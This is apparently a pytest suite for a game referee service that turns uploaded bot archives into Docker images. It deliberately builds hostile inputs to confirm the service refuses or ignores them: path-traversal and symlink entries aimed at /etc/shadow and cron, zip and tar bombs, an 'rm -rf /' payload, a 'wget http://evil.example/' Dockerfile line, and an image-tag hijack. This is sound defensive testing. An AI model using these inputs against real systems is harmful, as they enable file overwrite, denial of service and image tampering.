"""Team uploads made into images (referee.bots.images.builds), against a real daemon.

Every archive is made here, in the test: source zips and tarballs, a
``docker save`` of the Node sample image, hand-made image archives (a one-file
layer), and hostile ones of each kind.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import secrets
import tarfile
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from referee.bots.images import builds as B
from referee.bots.images import source_build
from referee.bots.images.baseimage import ROOT
from referee.bots.images.builds import BuildResult, remove_image
from referee.bots.images.image_archive import DEFAULT_MAX_IMAGE_BYTES, load_image_archive
from referee.bots.images.source_build import build_source
from referee.bots.sandbox.container import ContainerBot
from referee.bots.sandbox.instance import current
from referee.match import play_match
from tests.support.builds import PY_BOT, make_tar, make_zip, python_bot_files, save_image
from tests.support.containers import FIGURES

#: A label value the Dockerfile must not expand nor cut.
NOTE = 'team $HOME "quoted" \\ ${PATH} end'

#: Tags this module makes (removed at its end).
PREFIX = "referee-test-builds"


def tag(name: str) -> str:
    return f"{PREFIX}-{name}:1"


# ------------------------------------------------------------- archives


def image_archive(
    path: Path,
    *,
    manifest: Any = None,
    config: dict[str, Any] | None = None,
    layer: bytes | None = None,
    extra: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> Path:
    """A hand-made one-layer docker save archive (the layer holds /hello.txt)."""
    if layer is None:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as t:
            data = f"hello {secrets.token_hex(8)}\n".encode()
            info = tarfile.TarInfo("hello.txt")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        layer = buf.getvalue()
    diff = "sha256:" + hashlib.sha256(layer).hexdigest()
    cfg = (
        config
        if config is not None
        else {
            "architecture": "amd64",
            "os": "linux",
            "config": {"Cmd": ["/hello"]},
            "rootfs": {"type": "layers", "diff_ids": [diff]},
        }
    )
    cfg_bytes = json.dumps(cfg).encode()
    cfg_name = hashlib.sha256(cfg_bytes).hexdigest() + ".json"
    man = (
        manifest
        if manifest is not None
        else [{"Config": cfg_name, "RepoTags": ["team-image:1"], "Layers": ["abc/layer.tar"]}]
    )
    files = {
        "manifest.json": json.dumps(man).encode(),
        cfg_name: cfg_bytes,
        "abc/layer.tar": layer,
        **(extra or {}),
    }
    return make_tar(path, {k: v for k, v in files.items() if k not in drop}, gz=False)


def retagged(saved: Path, path: Path, repo_tags: list[str]) -> Path:
    """A copy of a docker save archive whose manifest and repositories claim `repo_tags`."""
    with tarfile.open(saved) as src, tarfile.open(path, "w") as out:
        for info in src:
            if info.name == "manifest.json":
                man = json.load(src.extractfile(info))  # type: ignore[arg-type]
                man[0]["RepoTags"] = repo_tags
                data = json.dumps(man).encode()
            elif info.name == "repositories":
                top = json.load(src.extractfile(info))  # type: ignore[arg-type]
                layer = next(iter(next(iter(top.values())).values()))
                data = json.dumps({t.split(":")[0]: {t.split(":")[1]: layer} for t in repo_tags}).encode()
            else:
                out.addfile(info, src.extractfile(info) if info.isreg() else None)
                continue
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
    return path


# ------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def client(docker_client: Any) -> Iterator[Any]:
    t0 = time.perf_counter()
    source_build.ensure_sdk_image(docker_client)
    FIGURES["sdk image ready (built or reused)"] = f"{time.perf_counter() - t0:.1f} s"
    yield docker_client
    # the low-level listing: one call, no inspect of each image that a removal elsewhere can race
    for image in docker_client.api.images(name=f"{PREFIX}-*"):
        for t in image.get("RepoTags") or ():
            if t.startswith(PREFIX):
                remove_image(t, docker_client)


def refused(result: BuildResult, *needles: str) -> str:
    assert not result.ok, result
    assert result.image_id is None and result.reason is not None
    assert "\n" not in result.reason, result.reason
    for needle in needles:
        assert needle in result.reason, result.reason
    assert result.reason in result.log
    return result.reason


def labels_of(client: Any, image_id: str) -> dict[str, str]:
    return dict(client.images.get(image_id).attrs["Config"].get("Labels") or {})


def images_of(client: Any, result: BuildResult) -> list[str]:
    """Every image labelled as built from `result`'s upload, the untagged
    ones (a parent, a step's) too."""
    found = client.images.list(all=True, filters={"label": f"{B.INPUT_LABEL}={result.input_sha256}"})
    return sorted(str(i.id) for i in found)


@pytest.fixture(scope="module")
def python_bot(client: Any, tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    folder = tmp_path_factory.mktemp("py")
    files = {f"mybot/{k}": v for k, v in python_bot_files().items()}
    files["mybot/Dockerfile"] = "FROM alpine\nRUN wget http://evil.example/\n"  # ignored
    files["mybot/requirements.txt"] = "aiohttp>=3.9\nmsgspec\n"
    files["__MACOSX/mybot/._bot.py"] = b"\0\5\26\7"
    files["mybot/__pycache__/bot.cpython-311.pyc"] = b"junk"
    archive = make_zip(folder / "upload.bin", files)  # the name says nothing: content does
    result = build_source(
        archive, tag=tag("py"), labels={"referee.team": "7", "referee.note": NOTE}, client=client
    )
    FIGURES["python source bot build"] = f"{result.seconds:.1f} s"
    return result


@pytest.fixture(scope="module")
def node_bot(client: Any, tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    folder = tmp_path_factory.mktemp("node")
    code = (ROOT / "sample_bots" / "node" / "bot.js").read_text()
    archive = make_tar(folder / "node.tgz", {"node/bot.js": code + f"// {secrets.token_hex(4)}\n"})
    result = build_source(archive, tag=tag("node"), labels={"referee.team": "8"}, client=client)
    FIGURES["node source bot build"] = f"{result.seconds:.1f} s"
    return result


@pytest.fixture(scope="module")
def saved_node(client: Any, images: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    if "node" not in images:
        pytest.skip("node is not installed: no Node sample image")
    return save_image(client, images["node"], tmp_path_factory.mktemp("saved") / "node.tar")


# ------------------------------------------------------------- source bots


async def test_python_source_zip_builds_and_plays(client: Any, python_bot: BuildResult, out: Path) -> None:
    r = python_bot
    assert r.ok, r.log
    assert r.reason is None and r.kind == "python" and r.tag == tag("py")
    assert r.image_id is not None and r.image_id.startswith("sha256:")
    assert str(client.images.get(r.tag).id) == r.image_id
    assert r.parent_id == str(client.images.get(current().sdk_tag).id)
    labels = labels_of(client, r.image_id)
    assert labels[B.BUILT_BY_LABEL] == "referee" and labels[B.SOURCE_LABEL] == "python"
    assert labels["referee.team"] == "7" and labels[B.INPUT_LABEL] == r.input_sha256
    assert labels["referee.note"] == NOTE  # quoted: nothing expanded
    assert "your Dockerfile is ignored" in r.log and "wget" not in r.log
    assert "requirements.txt: every package it names is in the base image" in r.log
    config = client.images.get(r.image_id).attrs["Config"]
    assert config["Cmd"] == ["python", "bot.py"] and config["User"] == "65534:65534"
    assert config["WorkingDir"] == "/app/bot"
    async with ContainerBot(r.image_id, out_dir=out, name="zipped") as bot:
        assert (await bot.handshake()).name == "zipped-greedy"


def test_a_source_build_leaves_one_image_on_its_base(
    client: Any, python_bot: BuildResult, node_bot: BuildResult
) -> None:
    """Its bot's image and nothing else labelled for the upload (an untagged
    image of the files before the compile step would be an orphan the sweep
    cannot remove: the bot's image needs it); one layer on its base image,
    whose environment it keeps, with its own on top."""
    built = [(python_bot, {"PYTHONDONTWRITEBYTECODE=1"})]
    if __import__("shutil").which("node"):
        built.append((node_bot, {"BOT_UNIX=/run/bot/bot.sock", "NODE_ENV=production"}))
    for r, env in built:
        assert r.ok and r.image_id is not None and r.parent_id is not None, r.log
        assert images_of(client, r) == [r.image_id]
        made, base = client.images.get(r.image_id), client.images.get(r.parent_id)
        assert made.attrs["RootFS"]["Layers"][:-1] == base.attrs["RootFS"]["Layers"]
        assert set(made.attrs["Config"]["Env"]) == set(base.attrs["Config"]["Env"] or ()) | env


async def test_node_source_tar_gz_builds_and_plays(
    client: Any, node_bot: BuildResult, python_bot: BuildResult, out: Path
) -> None:
    if not __import__("shutil").which("node"):
        pytest.skip("node is not installed")
    r = node_bot
    assert r.ok, r.log
    assert r.kind == "node" and r.image_id == str(client.images.get(tag("node")).id)
    assert labels_of(client, r.image_id)[B.SOURCE_LABEL] == "node"
    assert client.images.get(r.image_id).attrs["Config"]["Cmd"] == ["node", "bot.js"]
    assert python_bot.image_id is not None
    async with (
        ContainerBot(r.image_id, out_dir=out, name="node") as node,
        ContainerBot(python_bot.image_id, out_dir=out, name="zipped") as py,
    ):
        assert (await node.handshake()).name == "node-greedy"
        result = await play_match([node, py], seed=5, names=["node", "zipped"])
    assert result.places is not None and sorted(result.places) in ([1, 2], [1, 1])
    assert not any(result.faults), result.faults


def test_source_kind_is_read_from_content_not_name(client: Any, tmp_path: Path) -> None:
    files = python_bot_files()
    for name, make in (
        ("bot.zip", lambda p: make_tar(p, files)),
        ("bot.tar.gz", lambda p: make_zip(p, files)),
        ("plain.zip", lambda p: make_tar(p, files, gz=False)),
    ):
        r = build_source(make(tmp_path / name), tag=tag("kinds"), client=client)
        assert r.ok, (name, r.log)
        assert r.kind == "python"


def test_python_syntax_error_fails_the_build_with_the_error(client: Any, tmp_path: Path) -> None:
    files = {**python_bot_files(), "helper.py": "NAME = 'x'\ndef broken(:\n"}
    r = build_source(make_zip(tmp_path / "b.zip", files), tag=tag("syntax"), client=client)
    # issue 35: the refusal's one line points at the line (not "the build log shows the error")
    refused(r, "Python could not compile the bot's files: helper.py, line 2: SyntaxError: ")
    assert "helper.py" in r.log and "SyntaxError" in r.log
    assert r.kind == "python"
    assert not images_of(client, r)  # nothing of the failed build is left


def test_a_build_over_its_time_limit_is_cancelled(client: Any, tmp_path: Path) -> None:
    """A bot whose compile step takes seconds: cut at 1 s, its build container gone.
    (Many modules of a modest size: one huge module runs out of the step's
    memory instead, which is the next test.)"""
    body = "x = 1\n" * 20_000
    files = {**python_bot_files(), **{f"m{i}.py": body + f"# {secrets.token_hex(8)}\n" for i in range(150)}}
    archive = make_zip(tmp_path / "big.zip", files)
    r = build_source(archive, tag=tag("slow"), client=client, timeout_s=1.0)
    refused(r, "the build took longer than 1 s")
    assert r.seconds < 12
    time.sleep(1.0)
    building = [  # this process's builds (another test process may build meanwhile)
        c
        for c in client.containers.list(all=True, filters={"label": f"referee.pid={os.getpid()}"})
        if "compileall" in json.dumps(c.attrs["Config"]["Cmd"])
    ]
    assert building == []
    import docker.errors

    with pytest.raises(docker.errors.ImageNotFound):
        client.images.get(tag("slow"))


def test_a_module_too_big_to_compile_is_refused_for_its_memory(client: Any, tmp_path: Path) -> None:
    """Compiling one 400,000-line module takes more than the build's 512 MiB:
    refused saying so (its exit code 137 is no syntax error)."""
    files = {**python_bot_files(), "big.py": "x = 1\n" * 400_000 + f"# {secrets.token_hex(8)}\n"}
    r = build_source(make_zip(tmp_path / "big.zip", files), tag=tag("oom"), client=client, timeout_s=120)
    refused(r, "ran out of its 512.0 MiB of memory")
    import docker.errors

    with pytest.raises(docker.errors.ImageNotFound):
        client.images.get(tag("oom"))


@pytest.mark.parametrize(
    "case,needles",
    [
        ("traversal", ("leaves its folder", "'..'")),
        ("absolute", ("absolute path",)),
        ("zip symlink", ("symbolic link",)),
        ("control chars", ("control characters",)),
        ("duplicate", ("appears twice",)),
        ("no bot", ("no bot.py", "zip -r")),
        ("both", ("both bot.py",)),
        ("requirements", ("requirements.txt asks for numpy", "no network")),
        ("node deps", ("no node_modules", "npm install")),
        ("node main missing", ("entry file 'src/main.js'",)),
        ("not an archive", ("not a .zip or .tar.gz archive",)),
        ("empty file", ("the file is empty",)),
    ],
)
def test_source_refusals(client: Any, tmp_path: Path, case: str, needles: tuple[str, ...]) -> None:
    p = tmp_path / "upload"
    bot = python_bot_files()
    make = {
        "traversal": lambda: make_zip(p, {**bot, "../../etc/cron.d/evil": "x"}),
        "absolute": lambda: make_zip(p, {**bot, "/etc/passwd": "x"}),
        "zip symlink": lambda: make_zip(p, bot, links={"secrets": "/etc/shadow"}),
        "control chars": lambda: make_zip(p, {**bot, "evil\x1b[2J.py": "x"}),
        "duplicate": lambda: make_zip(p, {**bot, "./bot.py": "x"}),
        "no bot": lambda: make_zip(p, {"main.py": "print(1)", "other/x.py": ""}),
        "both": lambda: make_zip(p, {**bot, "bot.js": ""}),
        "requirements": lambda: make_zip(p, {**bot, "requirements.txt": "aiohttp\nnumpy==2.0  # fast\n"}),
        "node deps": lambda: make_zip(p, {"package.json": '{"dependencies": {"ws": "^8"}}', "bot.js": ""}),
        "node main missing": lambda: make_zip(p, {"package.json": '{"main": "src/main.js"}', "index.js": ""}),
        "not an archive": lambda: (p.write_bytes(b"#!/bin/sh\nrm -rf /\n"), p)[1],
        "empty file": lambda: (p.write_bytes(b""), p)[1],
    }[case]
    archive = make()
    r = build_source(archive, tag=tag("refused"), client=client)
    refused(r, *needles)
    assert r.seconds < 5


@pytest.mark.parametrize("kind", ["symlink", "hardlink", "device", "fifo"])
def test_tar_links_and_devices_are_refused(client: Any, tmp_path: Path, kind: str) -> None:
    info = tarfile.TarInfo("innocent.py")
    if kind == "symlink":
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
    elif kind == "hardlink":
        info.type, info.linkname = tarfile.LNKTYPE, "bot.py"
    elif kind == "device":
        info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
    else:
        info.type = tarfile.FIFOTYPE
    r = build_source(
        make_tar(tmp_path / "t.tgz", python_bot_files(), special=[info]), tag=tag("refused"), client=client
    )
    word = {"symlink": "a symbolic link", "hardlink": "a hard link", "device": "a device", "fifo": "a fifo"}[
        kind
    ]
    refused(r, word, "'innocent.py'", "only files and folders")


def test_zip_bomb_declared_size(client: Any, tmp_path: Path) -> None:
    """40 MiB of zeros in a ~40 KB zip: refused on what the zip declares, nothing unpacked."""
    p = tmp_path / "bomb.zip"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bot.py", PY_BOT)
        with zf.open("zeros.bin", "w", force_zip64=True) as f:
            for _ in range(40):
                f.write(b"\0" * 1024**2)
    assert p.stat().st_size < 1024**2
    r = build_source(p, tag=tag("refused"), client=client, max_unpacked_bytes=16 * 1024**2)
    refused(r, "unpacks to more than 16.0 MiB")


def test_zip_bomb_that_lies_about_its_size(client: Any, tmp_path: Path) -> None:
    """A zip that declares 1 KB for 50 MiB of zeros: the bytes read are counted, it stops early."""
    p = tmp_path / "liar.zip"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bot.py", PY_BOT)
        zf.writestr("zeros.bin", b"\0" * (50 * 1024**2))
    data = bytearray(p.read_bytes())
    true_size = (50 * 1024**2).to_bytes(4, "little")
    lie = (1024).to_bytes(4, "little")
    # The uncompressed size, in the local header and in the central directory.
    count = 0
    start = 0
    while (i := data.find(b"zeros.bin", start)) >= 0:
        for off in range(max(0, i - 46), i):
            if data[off : off + 4] == true_size:
                data[off : off + 4] = lie
                count += 1
                break
        start = i + 1
    assert count == 2
    p.write_bytes(bytes(data))
    r = build_source(p, tag=tag("refused"), client=client)
    refused(r, "zeros.bin")
    assert "more than the size the archive declares" in (r.reason or "") or "cannot be unpacked" in (
        r.reason or ""
    )


def test_tar_gz_bomb(client: Any, tmp_path: Path) -> None:
    p = tmp_path / "bomb.tgz"
    with tarfile.open(p, "w:gz") as tar:
        info = tarfile.TarInfo("bot.py")
        info.size = 40 * 1024**2
        tar.addfile(info, io.BytesIO(b"\0" * info.size))
    assert p.stat().st_size < 1024**2
    r = build_source(p, tag=tag("refused"), client=client, max_unpacked_bytes=8 * 1024**2)
    refused(r, "unpacks to more than 8.0 MiB")


def test_too_many_files_and_too_big_an_upload(client: Any, tmp_path: Path) -> None:
    files = {**python_bot_files(), **{f"data/{i}.txt": "" for i in range(60)}}
    r = build_source(make_zip(tmp_path / "many.zip", files), tag=tag("refused"), client=client, max_files=50)
    refused(r, "more than 50 files and folders")
    r = build_source(make_tar(tmp_path / "many.tgz", files), tag=tag("refused"), client=client, max_files=50)
    refused(r, "more than 50 files and folders")
    r = build_source(
        make_zip(tmp_path / "big.zip", {**python_bot_files(), "x": secrets.token_bytes(4096)}),
        tag=tag("refused"),
        client=client,
        max_bytes=2048,
    )
    refused(r, "more than the limit of")


def test_a_docker_save_uploaded_as_source_says_so(client: Any, tmp_path: Path) -> None:
    r = build_source(image_archive(tmp_path / "img.tar"), tag=tag("refused"), client=client)
    refused(r, "docker save archive", "submit it as an image")


# ---------------------------------------------------- docker save archives


async def test_docker_save_of_the_node_sample_loads_pinned(
    client: Any, images: dict[str, str], saved_node: Path, out: Path
) -> None:
    node_id = str(client.images.get(images["node"]).id)
    r = load_image_archive(saved_node, tag=tag("saved"), labels={"referee.team": "9"}, client=client)
    FIGURES["docker-save load (104 MB, layers known)"] = f"{r.seconds:.1f} s"
    assert r.ok, r.log
    assert r.kind == "image" and r.parent_id == node_id
    assert r.image_id is not None and r.image_id != node_id
    assert str(client.images.get(tag("saved")).id) == r.image_id
    assert r.input_sha256 == B.file_sha256(saved_node)
    labels = labels_of(client, r.image_id)
    assert labels[B.BUILT_BY_LABEL] == "referee" and labels[B.SOURCE_LABEL] == "image"
    assert labels["referee.team"] == "9"
    assert labels.get("referee.inputs") == ""  # the image's own referee.* label is blanked
    assert f"its own names, ignored: {images['node']}" in r.log
    async with ContainerBot(r.image_id, out_dir=out, name="loaded") as bot:
        assert (await bot.handshake()).name == "node-greedy"


def test_an_archive_claiming_the_base_tag_renames_nothing(
    client: Any, images: dict[str, str], saved_node: Path, tmp_path: Path
) -> None:
    node_id = str(client.images.get(images["node"]).id)
    base_id = str(client.images.get(current().base_tag).id)
    # The attack is real: a plain docker load of such an archive moves the name.
    victim = tag("victim")
    client.images.get(current().base_tag).tag(victim)
    with retagged(saved_node, tmp_path / "plain.tar", [victim]).open("rb") as f:
        list(client.images.load(f))
    assert str(client.images.get(victim).id) == node_id
    client.images.get(current().base_tag).tag(victim)
    before = {
        t: str(client.images.get(t).id)
        for t in (current().base_tag, images["greedy"], tag("py"), victim)
        if _exists(client, t)
    }
    assert before[current().base_tag] == before[victim] == base_id
    hostile = retagged(saved_node, tmp_path / "hostile.tar", list(before))
    r = load_image_archive(hostile, tag=tag("hostile"), client=client)
    assert r.ok, r.log
    after = {t: str(client.images.get(t).id) for t in before}
    assert after == before
    assert r.parent_id == node_id and str(client.images.get(tag("hostile")).id) == r.image_id
    assert f"its own names, ignored: {current().base_tag}" in r.log


def test_a_load_over_its_time_limit_is_cut(client: Any, saved_node: Path) -> None:
    r = load_image_archive(saved_node, tag=tag("slowload"), client=client, timeout_s=0.2)
    refused(r, "loading the image took longer than 0.2 s")
    assert r.seconds < 12
    assert not _exists(client, tag("slowload"))


def _exists(client: Any, image: str) -> bool:
    try:
        client.images.get(image)
    except Exception:
        return False
    return True


def test_a_hand_made_image_archive_loads(client: Any, tmp_path: Path) -> None:
    r = load_image_archive(
        image_archive(tmp_path / "i.tar", extra={"repositories": b'{"referee-base":{"local":"x"}}'}),
        tag=tag("handmade"),
        client=client,
    )
    assert r.ok, r.log
    assert labels_of(client, r.image_id or "")[B.INPUT_LABEL] == r.input_sha256
    assert client.images.get(r.parent_id).attrs["Config"]["Cmd"] == ["/hello"]


def _two_images(p: Path) -> Path:
    one = {"Config": "a.json", "Layers": ["abc/layer.tar"]}
    return image_archive(p, manifest=[one, {**one, "Config": "b.json"}])


def _config(**override: Any) -> dict[str, Any]:
    return {
        "architecture": "amd64",
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "0" * 64]},
        **override,
    }


@pytest.mark.parametrize(
    "case,needles",
    [
        ("not a tar", ("not a tar archive", "docker save IMAGE -o bot.tar")),
        ("gzip", ("gzip-compressed",)),
        ("no manifest", ("no manifest.json",)),
        ("bad manifest", ("not a docker save manifest",)),
        ("two images", ("holds 2 images", "exactly one")),
        ("no image", ("holds 0 images",)),
        ("missing layer", ("layer 1 'abc/layer.tar' is missing from the archive",)),
        ("missing config", ("the image config", "is missing")),
        ("traversal", ("not a plain path inside the archive",)),
        ("link out", ("links outside the archive",)),
        ("onbuild", ("ONBUILD",)),
        ("arm", ("for arm64 CPUs", "--platform")),
        ("layer count", ("config lists 2 layers but manifest.json 1",)),
        ("wrong layer", ("the Docker daemon refused the archive",)),
        ("too big", ("more than the limit of",)),
    ],
)
def test_image_archive_refusals(client: Any, tmp_path: Path, case: str, needles: tuple[str, ...]) -> None:
    p = tmp_path / "upload.tar"
    base_id = str(client.images.get(current().base_tag).id)
    link = tarfile.TarInfo("abc/layer.tar")
    link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
    make = {
        "not a tar": lambda: (p.write_bytes(secrets.token_bytes(4096)), p)[1],
        "gzip": lambda: (p.write_bytes(gzip.compress(image_archive(tmp_path / "x.tar").read_bytes())), p)[1],
        "no manifest": lambda: image_archive(p, drop=("manifest.json",)),
        "bad manifest": lambda: image_archive(p, manifest={"Config": 3}),
        "two images": lambda: _two_images(p),
        "no image": lambda: image_archive(p, manifest=[]),
        "missing layer": lambda: image_archive(p, drop=("abc/layer.tar",)),
        "missing config": lambda: image_archive(
            p, manifest=[{"Config": "nope.json", "Layers": ["abc/layer.tar"]}]
        ),
        "traversal": lambda: image_archive(
            p, manifest=[{"Config": "../../x.json", "Layers": ["abc/layer.tar"]}]
        ),
        "link out": lambda: _with_member(image_archive(tmp_path / "x.tar", drop=("abc/layer.tar",)), p, link),
        "onbuild": lambda: image_archive(p, config=_config(config={"OnBuild": ["RUN evil"]})),
        "arm": lambda: image_archive(p, config=_config(architecture="arm64")),
        "layer count": lambda: image_archive(
            p, config=_config(rootfs={"type": "layers", "diff_ids": ["a", "b"]})
        ),
        "wrong layer": lambda: image_archive(p, config=_config()),  # the diff id is not the layer's
        "too big": lambda: image_archive(p),
    }[case]
    archive = make()
    r = load_image_archive(
        archive,
        tag=tag("refused"),
        client=client,
        max_bytes=1024 if case == "too big" else DEFAULT_MAX_IMAGE_BYTES,
    )
    refused(r, *needles)
    assert str(client.images.get(current().base_tag).id) == base_id
    assert not _exists(client, tag("refused"))


def _with_member(src: Path, dst: Path, member: tarfile.TarInfo) -> Path:
    with tarfile.open(src) as a, tarfile.open(dst, "w") as b:
        for info in a:
            b.addfile(info, a.extractfile(info) if info.isreg() else None)
        b.addfile(member)
    return dst


# ------------------------------------------------------------- clean-up


def test_remove_image_removes_only_the_service_tag(client: Any, tmp_path: Path) -> None:
    r = load_image_archive(image_archive(tmp_path / "i.tar"), tag=tag("gone"), client=client)
    assert r.ok and r.image_id is not None
    assert not remove_image(tag("gone"), client, image_id="sha256:" + "0" * 64)  # not that image
    assert remove_image(tag("gone"), client, image_id=r.image_id)
    assert not _exists(client, r.image_id)  # nothing else named it: the image went too
    assert not remove_image(tag("gone"), client)
    assert _exists(client, current().base_tag)
    found = client.api.images(filters={"label": f"{B.BUILT_BY_LABEL}=referee"})
    assert all(B.INPUT_LABEL in (i.get("Labels") or {}) for i in found)
